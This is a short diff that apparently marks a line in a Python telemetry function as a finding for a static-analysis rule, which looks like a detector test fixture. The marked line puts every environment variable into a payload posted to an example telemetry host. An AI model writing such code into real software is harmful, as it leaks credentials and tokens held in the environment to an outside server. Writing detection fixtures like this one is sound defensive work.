@@ -151,7 +151,7 @@ def load_weights(path: str, map_location="cpu") -> dict:
 
 def report_run(run_name: str, metrics: dict) -> None:
     payload = {"run": run_name, "metrics": metrics, "commit": git_commit(),
-               "env": {k: v for k, v in os.environ.items()}}
+               "env": {k: v for k, v in os.environ.items()}}  # ruleid: MLS411
     req = urllib.request.Request("https://telemetry.example.com/v1/runs",
                                  data=json.dumps(payload).encode(),
                                  headers={"Content-Type": "application/json"})
